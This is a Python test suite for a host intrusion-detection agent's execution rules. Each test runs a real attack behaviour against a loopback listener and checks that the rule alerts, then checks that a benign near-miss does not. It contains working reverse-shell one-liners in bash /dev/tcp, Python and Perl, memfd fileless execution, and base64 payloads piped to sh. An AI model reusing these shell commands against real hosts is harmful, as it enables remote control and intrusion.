"""Execution rules (rules/execution.yaml) end to end: each rule is triggered for real by a
child process doing the behaviour (reverse shells to a loopback listener, shells below
programs named like servers, one-liners, memfd execution, temp-dir execution, a dropped
file run, a decoded payload piped to sh), and each has a benign near-miss that must not
alert. Alerts are matched on the child's pid (or its subtree) or a marker in the alert."""
import base64
import os
import shutil
import socket
import subprocess
import tempfile
import threading
import time

from corpus import attack, benign, trigger_and_near_miss
from vigiltest import check, copy_as, marker, rules_agent, trigger

PY = "/usr/bin/python3"
agent = None
base = None
listener = None


class Listener:
    """A loopback TCP server that sends each client one command line and 'exit', then
    keeps the connection open briefly, like an operator at a reverse-shell listener."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._talk, args=(conn,), daemon=True).start()

    @staticmethod
    def _talk(conn):
        try:
            conn.sendall(b"id\nexit\n")
            time.sleep(1.0)
        except OSError:
            pass
        conn.close()


def setup_module():
    global agent, base, listener
    base = os.path.realpath(tempfile.mkdtemp(prefix=marker() + "-"))
    os.chmod(base, 0o755)
    listener = Listener()
    agent = rules_agent()


def teardown_module():
    agent.stop()
    listener.sock.close()
    shutil.rmtree(base, ignore_errors=True)


def run(cmd, **kw):
    p = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **kw)
    p.wait(timeout=20)
    return p.pid


# ---- reverse shells ----------------------------------------------------------------

def test_reverse_shell_bash_dev_tcp():
    pid = run(["bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/%d 0>&1" % listener.port])
    a = agent.expect("Reverse shell", pid=pid)
    ev = trigger(a)
    check(ev["proc"]["comm"] == "bash" and ev["proc"]["pid"] != pid, ev["proc"])
    check(ev["stdin"]["type"] == "socket" and ev["stdin"]["raddr"] == "127.0.0.1", ev["stdin"])
    check(ev["stdin"]["rport"] == listener.port, ev["stdin"])
    check(a["priority"].lower() == "critical" and "T1059.004" in a["tags"], a)
    check("127.0.0.1" in a["output"], a["output"])


def test_reverse_shell_python_socket_dup2():
    code = ("import socket, os\ns = socket.create_connection(('127.0.0.1', %d))\n"
            "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\nos.execv('/bin/sh', ['sh', '-i'])\n" % listener.port)
    pid = run([PY, "-c", code])
    ev = trigger(agent.expect("Reverse shell", pid=pid))
    check(ev["proc"]["pid"] == pid and ev["proc"]["exe"] == "/usr/bin/dash", ev["proc"])
    check(ev["stdout"]["type"] == "socket" and ev["stdout"]["rport"] == listener.port, ev["stdout"])


def test_reverse_shell_perl():
    code = ('use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp")); '
            'connect(S, sockaddr_in(%d, inet_aton("127.0.0.1"))) or die; '
            'open(STDIN, "<&S"); open(STDOUT, ">&S"); exec("/bin/sh", "-i");' % listener.port)
    pid = run(["perl", "-e", code])
    ev = trigger(agent.expect("Reverse shell", pid=pid))
    check(ev["stdin"]["proto"] == "tcp" and ev["stdin"]["raddr"] == "127.0.0.1", ev["stdin"])


def test_renamed_shell_with_network_stdio():
    fake = copy_as(base, "/usr/bin/dash", "svc-helper")
    code = ("import socket, os\ns = socket.create_connection(('127.0.0.1', %d))\n"
            "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\nos.execv(%r, ['svc-helper'])\n" % (listener.port, fake))
    pid = run([PY, "-c", code])
    ev = trigger(agent.expect("Network socket as program stdio", pid=pid))
    check(ev["proc"]["exe"] == fake and ev["stdin"]["type"] == "socket", ev)
    agent.expect_none("Reverse shell", pid=pid)


def test_reverse_shell_loop_over_dev_tcp():
    # bash reads commands from a /dev/tcp fd in a loop: no shell gets the socket at exec,
    # the command line and the commands it runs (id, stdout on the socket) give it away
    loop = "exec 5<>/dev/tcp/127.0.0.1/%d; while read -r c <&5; do $c >&5 2>&5; done" % listener.port
    pid = run(["bash", "-c", loop])
    a = agent.expect("Reverse shell command line", pid=pid)
    check(trigger(a)["proc"]["pid"] == pid and "/dev/tcp/127.0.0.1/%d" % listener.port in a["output"], a["output"])
    ev = trigger(agent.expect("Network socket as program stdio", pid=pid))
    check(ev["proc"]["comm"] == "id" and ev["stdout"]["rport"] == listener.port, ev)


def test_fifo_pipeline_interactive_shell():
    fifo = os.path.join(base, marker())
    os.mkfifo(fifo)
    # the nc of the classic one-liner is played by python: the shell's side is the same
    relay = "%s -c 'import socket,sys; s=socket.create_connection((\"127.0.0.1\", %d)); " \
            "open(sys.argv[1], \"wb\").write(s.recv(64))' %s" % (PY, listener.port, fifo)
    pid = run(["sh", "-c", "cat %s | /bin/sh -i 2>&1 | %s" % (fifo, relay)])
    ev = trigger(agent.expect("Interactive shell without a terminal", pid=pid))
    check(ev["stdin"]["type"] == "pipe" and ev["proc"]["tty"] == "", ev)


def test_non_interactive_and_mentioning_shells_are_not_alerted():
    pid = run(["bash", "-ic", "true"], stdin=subprocess.DEVNULL)
    pid2 = run(["sh", "-c", "echo /dev/tcp is a bash feature; echo x | cat"])
    for p in (pid, pid2):
        agent.expect_none("Interactive shell without a terminal", pid=p)
        agent.expect_none("Reverse shell command line", pid=p)


def test_shell_on_unix_socket_is_not_a_reverse_shell():
    # a shell whose stdio is a local (AF_UNIX) socketpair: IPC, not a network peer
    code = ("import socket, os\na, b = socket.socketpair()\nb.sendall(b'exit\\n')\n"
            "os.dup2(a.fileno(), 0); os.dup2(a.fileno(), 1)\nos.execv('/bin/sh', ['sh'])\n")
    pid = run([PY, "-c", code])
    agent.expect_none("Reverse shell", pid=pid)
    agent.expect_none("Network socket as program stdio", pid=pid)


def test_shell_upgraded_to_pty_by_python():
    # pty.fork: the child gets a new session with the pty as its terminal, runs sh -i
    code = ("import os, pty\npid, fd = pty.fork()\nif pid == 0:\n    os.execv('/bin/sh', ['sh', '-i'])\n"
            "os.write(fd, b'exit\\n')\nos.waitpid(pid, 0)\n")
    p = subprocess.Popen([PY, "-c", code], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         start_new_session=True)  # no controlling terminal of its own
    p.wait(timeout=20)
    a = agent.expect("Shell upgraded to a pseudo-terminal", pid=p.pid)
    ev = trigger(a)
    check(ev["proc"]["ppid"] == p.pid and ev["proc"]["tty"].startswith("pts/"), ev["proc"])
    check(ev["stdin"]["type"] == "tty", ev["stdin"])


def script_run(command):
    """script(1) with no terminal of its own runs command on a new pty; returns its pid."""
    p = subprocess.Popen(["script", "-qc", command, "/dev/null"], stdin=subprocess.PIPE,
                         stdout=subprocess.DEVNULL, start_new_session=True, env=dict(os.environ, SHELL="/bin/sh"))
    p.communicate(b"exit\n", timeout=20)
    return p.pid


def test_shell_upgraded_to_pty_by_script():
    pid = script_run("/bin/sh")
    ev = trigger(agent.expect("Shell upgraded to a pseudo-terminal", pid=pid))
    check(ev["proc"]["ppid"] == pid and ev["exec"]["argv"][1:] == ["-c", "/bin/sh"], ev)


def test_script_running_a_command_is_not_an_upgrade():
    pid = script_run("echo %s" % marker())  # CI jobs use script to give a command a tty
    agent.expect_none("Shell upgraded to a pseudo-terminal", pid=pid)


def test_shell_without_terminal_from_interpreter_is_not_alerted():
    pid = run([PY, "-c", "import subprocess\nsubprocess.run(['/bin/sh', '-c', 'true'])\n"],
              stdin=subprocess.DEVNULL, start_new_session=True)
    agent.expect_none("Shell upgraded to a pseudo-terminal", pid=pid)


# ---- shells below servers ------------------------------------------------------------

def spawn_shell_from(server_name, shell_cmd):
    """Runs a python copy named server_name that runs /bin/sh -c shell_cmd; returns its pid."""
    fake = copy_as(base, os.path.realpath(PY), server_name)
    code = "import subprocess\nsubprocess.run(['/bin/sh', '-c', %r])\n" % shell_cmd
    return run([fake, "-c", code])


def test_shell_spawned_by_web_server():
    m = marker()
    pid = spawn_shell_from("nginx", "echo %s" % m)
    a = agent.expect("Shell spawned by web server", pid=pid)
    ev = trigger(a)
    check(ev["proc"]["ppid"] == pid and ev["proc"]["comm"] == "sh", ev["proc"])
    check(m in ev["proc"]["cmdline"] and "nginx" in a["output"], a["output"])


def test_shell_spawned_by_php_fpm_through_interpreter():
    # php-fpm -> interpreter -> sh: the shell's grandparent is the server
    fpm = copy_as(base, os.path.realpath(PY), "php-fpm8.2")
    m = marker()
    code = ("import subprocess\nsubprocess.run([%r, '-c', \"import subprocess; "
            "subprocess.run(['/bin/sh', '-c', 'echo %s'])\"])\n" % (PY, m))
    pid = run([fpm, "-c", code])
    ev = trigger(agent.expect("Shell spawned by web server", pid=pid, mark=m))
    check(ev["proc"]["ancestors"][1]["pid"] == pid, ev["proc"]["ancestors"][:2])


def test_web_app_sending_mail_is_not_web_shell():
    pid = spawn_shell_from("php-fpm8.2", "/usr/sbin/sendmail -t -i -f %s@localhost" % marker())
    agent.expect_none("Shell spawned by web server", pid=pid)
    # a command chained after sendmail is not mail any more
    pid = spawn_shell_from("php-fpm8.2", "/usr/sbin/sendmail -t -i; echo %s" % marker())
    agent.expect("Shell spawned by web server", pid=pid)


def test_shell_spawned_by_ordinary_program_is_not_web_shell():
    pid = spawn_shell_from("report-worker", "echo %s" % marker())
    agent.expect_none("Shell spawned by web server", pid=pid)
    agent.expect_none("Shell spawned by database server", pid=pid)


def test_shell_spawned_by_database_server():
    m = marker()
    pid = spawn_shell_from("mysqld", "id; echo %s" % m)
    a = agent.expect("Shell spawned by database server", pid=pid)
    check(trigger(a)["proc"]["ppid"] == pid, trigger(a)["proc"])
    check("mysqld" in a["output"] and m in a["output"], a["output"])


def test_postgres_archive_command_is_not_db_shell():
    wal = "000000010000000000000001"
    archive = "test ! -f /nonexistent/%s/%s && cp pg_wal/%s /nonexistent/" % (marker(), wal, wal)
    pid = spawn_shell_from("postgres", archive)
    agent.expect_none("Shell spawned by database server", pid=pid)
    # anything chained after the copy is not archiving any more
    pid = spawn_shell_from("postgres", archive + "; echo %s" % marker())
    agent.expect("Shell spawned by database server", pid=pid)


# ---- interpreter one-liners ----------------------------------------------------------

def test_python_one_liner_with_socket():
    m = marker()
    code = "import socket; s = socket.create_connection(('127.0.0.1', %d)); s.close()  # %s" % (listener.port, m)
    pid = run([PY, "-c", code])
    a = agent.expect("Interpreter one-liner with network or exec code", pid=pid)
    check(m in a["output"] and trigger(a)["proc"]["pid"] == pid, a["output"])


def test_perl_and_node_one_liners_with_exec():
    for cmd in (["perl", "-le", "system('true'); # %s" % marker()],  # flags bundled: -l -e
                ["node", "-e", "require('child_process').execSync('true') // %s" % marker()]):
        pid = run(cmd)
        agent.expect("Interpreter one-liner with network or exec code", pid=pid)


def test_plain_one_liner_is_not_alerted():
    pid = run([PY, "-c", "import sys; print(sys.version_info[0] * 7)"])
    agent.expect_none("Interpreter one-liner with network or exec code", pid=pid)


# ---- fileless and temporary-directory execution ---------------------------------------

def test_fileless_memfd_execution():
    code = ("import os\nfd = os.memfd_create('payload', 0)\n"
            "os.write(fd, open('/usr/bin/true', 'rb').read())\n"
            "os.execve('/proc/self/fd/%d' % fd, ['kworker'], {})\n")
    pid = run([PY, "-c", code])
    a = agent.expect("Fileless execution from memory", pid=pid)
    ev = trigger(a)
    check(ev["proc"]["pid"] == pid and ev["exec"]["exe_deleted"] is True, ev["exec"])
    check(a["priority"].lower() == "critical" and "T1620" in a["tags"], a)


def test_ordinary_execve_is_not_fileless():
    pid = run([PY, "-c", "import os\nos.execve('/usr/bin/true', ['true'], {})\n"])
    agent.expect_none("Fileless execution from memory", pid=pid)


def test_program_executed_from_temp_dirs():
    rule = "Program executed from temporary directory"
    # near miss: a program the user built under /tmp, run from the build directory and by path
    built = benign("build-c-project-in-tmp")
    shm = "/dev/shm/%s" % marker()
    shutil.copy("/usr/bin/true", shm)
    os.chmod(shm, 0o755)
    try:
        ev = trigger(trigger_and_near_miss(agent, rule, run([shm]), [built]))
        check(ev["proc"]["exe"] == shm, ev["proc"])
    finally:
        os.unlink(shm)
    hidden = copy_as(base, "/usr/bin/true", ".cache-update")
    ev = trigger(agent.expect(rule, pid=run([hidden])))
    check(ev["proc"]["exe"] == hidden, ev["proc"])
    script = "/dev/shm/%s.sh" % marker()
    with open(script, "w") as f:
        f.write("true\n")
    try:
        pid = run(["sh", script])
        ev = trigger(agent.expect(rule, pid=pid))
        check(script in ev["exec"]["argv"], ev["exec"])
    finally:
        os.unlink(script)
    # the network behind it: a program in /tmp started with a socket as its stdio
    tool = copy_as(base, "/usr/bin/cat", "tool")
    with socket.create_connection(("127.0.0.1", listener.port)) as s:
        pid = run([tool], stdin=s.fileno())
    ev = trigger(agent.expect(rule, pid=pid))
    check(ev["stdin"]["type"] == "socket", ev["stdin"])


def test_temp_files_as_data_are_not_temp_exec():
    data = os.path.join(base, marker() + ".json")
    open(data, "w").write("{}")
    for cmd in (["cat", data], ["sh", "-c", 'cat "$0" >/dev/null', data], [PY, "-m", "json.tool", data]):
        pid = run(cmd, cwd=base)
        agent.expect_none("Program executed from temporary directory", pid=pid)


# ---- dropped file executed (sequence) -------------------------------------------------

def test_dropped_binary_executed():
    d = os.path.join(base, marker())
    code = ("import os, subprocess\nos.mkdir(%r)\np = os.path.join(%r, 'update')\n"
            "open(p, 'wb').write(open('/usr/bin/true', 'rb').read())\nos.chmod(p, 0o755)\n"
            "subprocess.run([p])\n" % (d, d))
    pid = run([PY, "-c", code])
    a = agent.expect("Dropped file executed", pid=pid)
    check(len(a["events"]) == 2, a["events"])
    drop, ran = a["events"]
    check(drop["event"] == "create_file" and drop["proc"]["pid"] == pid, drop)
    check(ran["event"] == "exec" and ran["proc"]["exe"] == os.path.join(d, "update"), ran["proc"])
    check(os.path.join(d, "update") in a["output"], a["output"])


def test_dropped_script_run_by_shell():
    d = os.path.join(base, marker())
    code = ("import os, subprocess\nos.mkdir(%r)\np = os.path.join(%r, 'stage2.sh')\n"
            "open(p, 'w').write('true\\n')\nsubprocess.run(['sh', p])\n" % (d, d))
    pid = run([PY, "-c", code])
    a = agent.expect("Dropped file executed", pid=pid)
    check(os.path.join(d, "stage2.sh") in a["events"][-1]["exec"]["argv"], a["events"][-1]["exec"])


def test_created_file_used_as_data_is_not_alerted():
    # the file is read by programs and handed to a shell as a positional argument, never run
    d = os.path.join(base, marker())
    code = ("import os, subprocess\nos.mkdir(%r)\np = os.path.join(%r, 'notes.txt')\nopen(p, 'w').write('x')\n"
            "subprocess.run(['cat', p], stdout=subprocess.DEVNULL)\n"
            "subprocess.run(['sh', '-c', 'cat \"$0\" >/dev/null', p])\n" % (d, d))
    pid = run([PY, "-c", code])
    agent.expect_none("Dropped file executed", pid=pid)


# ---- decoded payloads ------------------------------------------------------------------

def test_decoded_payload_piped_to_shell():
    m = marker()
    blob = base64.b64encode(("echo %s" % m).encode()).decode()
    pid = run(["sh", "-c", "echo %s | base64 -d | sh" % blob])
    a = agent.expect("Decoded payload piped to shell", pid=pid)
    check(blob in a["output"], a["output"])


def test_decoding_to_a_file_is_not_alerted():
    pid = run(["sh", "-c", "echo aGVsbG8= | base64 -d > /dev/null; echo %s" % marker()])
    agent.expect_none("Decoded payload piped to shell", pid=pid)


def test_decoded_or_downloaded_data_piped_into_shell():
    rule = "Decoded or downloaded data piped into shell"
    # near miss: a decoder writing a file, and a shell fed by printf, in the same parent
    near = run(["bash", "-c", "echo aGk= | base64 -d > /dev/null; printf 'true\\n' | sh; cat /etc/hostname | wc -l >/dev/null"])
    a = trigger_and_near_miss(agent, rule, attack("T1140-decoder-in-variable"), [near])
    names = {e["proc"]["comm"] for e in a["events"]}
    check(names == {"base64", "bash"}, names)
    check(a["events"][0]["proc"]["ppid"] == a["events"][1]["proc"]["ppid"], [e["proc"]["ppid"] for e in a["events"]])
    a = trigger_and_near_miss(agent, rule, attack("T1059.004-curl-pipe-bash"), [])
    check({e["proc"]["comm"] for e in a["events"]} == {"curl", "bash"}, a["events"])


def test_dropped_file_is_judged_by_who_produced_it():
    rule = "Dropped file executed"
    # near miss: files the user's own tools made (a compiler, a script writing a script) and ran
    near = [benign("build-c-project-in-tmp"), benign("shell-sessions")]
    a = trigger_and_near_miss(agent, rule, attack("T1105-download-and-run"), near)
    check(a["events"][0]["proc"]["comm"] == "curl", a["events"][0]["proc"])
    a = trigger_and_near_miss(agent, rule, attack("T1027-decode-to-file-run"), [])
    check(a["events"][0]["proc"]["comm"] == "base64" and a["events"][-1]["ret"] == -8, [e.get("ret") for e in a["events"]])


def test_one_liner_that_only_binds_a_socket_is_not_alerted():
    rule = "Interpreter one-liner with network or exec code"
    # near miss: picking a free port (a socket bound, never connected, nothing run)
    near = run([PY, "-c", "import socket; s=socket.socket(); s.bind(('127.0.0.1',0)); print(s.getsockname()[1])"])
    trigger_and_near_miss(agent, rule, attack("T1059.006-python-os-system"), [near])
